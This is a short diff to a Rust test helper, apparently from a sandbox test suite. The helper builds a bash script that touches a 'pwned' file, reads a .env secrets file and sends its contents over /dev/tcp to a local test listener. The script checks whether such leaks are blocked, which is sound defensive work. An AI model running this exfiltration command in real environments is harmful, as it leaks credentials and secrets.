@@ -115,8 +115,7 @@ fn program(listener: &TcpListener) -> String {
     let port = listener.local_addr().unwrap().port();
     format!(
         "#!/bin/bash\necho RAN >&2\necho RAN\ntouch \"$ROOT/pwned\"\ncat \"$ROOT/.env\" >&2\n\
-         cat \"$ROOT/.env\" > /dev/tcp/127.0.0.1/{port}\n\
-         python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)' && echo REACHED\n"
+         cat \"$ROOT/.env\" > /dev/tcp/127.0.0.1/{port} && echo REACHED\n"
     )
 }
 
